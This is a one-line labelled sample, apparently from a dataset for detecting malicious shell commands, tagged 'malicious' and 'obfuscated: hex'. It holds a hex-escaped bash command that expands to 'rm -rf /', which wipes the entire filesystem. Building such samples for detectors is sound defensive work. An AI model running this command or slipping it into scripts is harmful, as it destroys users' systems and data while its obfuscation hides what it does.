# label: malicious; obfuscated: hex
$'\x72\x6d' -rf /
